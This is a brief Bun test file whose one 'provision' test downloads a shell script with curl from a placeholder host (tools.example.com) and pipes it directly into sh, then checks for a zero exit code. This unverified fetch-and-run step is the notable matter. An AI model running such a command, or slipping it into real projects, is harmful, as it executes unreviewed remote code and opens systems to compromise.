import { expect, test } from "bun:test";

test("provision", async () => {
  const get = Bun.spawn(["curl", "-fsSL", "https://tools.example.com/p.sh"]);
  const run = Bun.spawn(["sh", "-s", "--", "--quiet"], { stdin: get.stdout });
  expect(await run.exited).toBe(0);
});
